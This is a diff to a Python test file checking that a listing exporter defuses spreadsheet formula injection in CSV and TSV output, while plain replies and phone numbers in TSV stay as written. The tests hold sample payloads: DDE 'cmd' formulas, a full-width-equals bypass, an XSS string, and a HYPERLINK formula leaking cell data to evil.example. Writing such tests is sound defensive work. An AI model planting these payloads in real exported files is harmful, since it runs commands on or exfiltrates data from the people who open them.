@@ -302,11 +302,8 @@ def test_rich_markup_in_a_mention_is_printed_literally_in_a_colour_table() -> No
     assert "<script>alert(1)</script>" in plain
 
 
-@pytest.mark.parametrize(("fmt", "delimiter"), [(OutputFormat.CSV, ","), (OutputFormat.TSV, "\t")])
-def test_spreadsheet_formulas_are_defused_with_an_apostrophe(
-    fmt: OutputFormat, delimiter: str
-) -> None:
-    rows = parse_delimited(render_listing(hostile_listing(), fmt, MONO), delimiter)
+def test_csv_defuses_every_cell_a_spreadsheet_could_read_as_a_formula() -> None:
+    rows = parse_delimited(render_listing(hostile_listing(), OutputFormat.CSV, MONO), ",")
     texts = {row["text"] for row in rows}
     for formula in FORMULAS:
         assert "'" + formula in texts
@@ -314,6 +311,50 @@ def test_spreadsheet_formulas_are_defused_with_an_apostrophe(
     # Numbers are numbers, not text that looks like a formula.
     assert all(not row["sentiment_score"].startswith("'") for row in rows)
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+RUNNABLE = (
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '+HYPERLINK("https://evil.example/?leak="&A1, "klik")',
+    "@SUM(1)",
+    "=1+1",
+    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
+)
+"""Cells that run as a formula (a command, a function call): inert in CSV and TSV alike."""
+PIPELINE_TEXT = (
+    "@bolderkar waar blijft mijn pakket?",
+    "-3 graden en nog steeds geen bezorging",
+    "+31 6 12345678 belt niet terug",
+    "+1 voor de bezorger",
+)
+"""Cells a pipeline wants as written: an @reply, a number, a phone number; nothing runs."""
+
+
+def delimited_texts(fmt: OutputFormat, delimiter: str, texts: tuple[str, ...]) -> list[str]:
+    items = [stored(text, created=at(-100 - n)) for n, text in enumerate(texts)]
+    rows = parse_delimited(render_listing(report_of(items), fmt, MONO), delimiter)
+    by_created = sorted(rows, key=lambda row: row["created_at"], reverse=True)
+    return [row["text"] for row in by_created]
+
+
+@pytest.mark.parametrize(("fmt", "delimiter"), [(OutputFormat.CSV, ","), (OutputFormat.TSV, "\t")])
+def test_a_runnable_formula_is_inert_in_csv_and_tsv(fmt: OutputFormat, delimiter: str) -> None:
+    assert delimited_texts(fmt, delimiter, RUNNABLE) == ["'" + text for text in RUNNABLE]
+
+
+def test_tsv_keeps_replies_numbers_and_phone_numbers_as_written_while_csv_guards_them() -> None:
+    assert delimited_texts(OutputFormat.TSV, "\t", PIPELINE_TEXT) == list(PIPELINE_TEXT)
+    assert delimited_texts(OutputFormat.CSV, ",", PIPELINE_TEXT) == [
+        "'" + text for text in PIPELINE_TEXT
+    ]
+
+
+def test_tsv_guards_an_at_reply_only_when_it_holds_a_call_or_a_pipe() -> None:
+    texts = ("@bolderkar pakket (order 123) kwijt", "@bolderkar app | website plat")
+    assert delimited_texts(OutputFormat.TSV, "\t", texts) == ["'" + text for text in texts]
 
 
 def test_json_escapes_strings_and_round_trips_them() -> None:
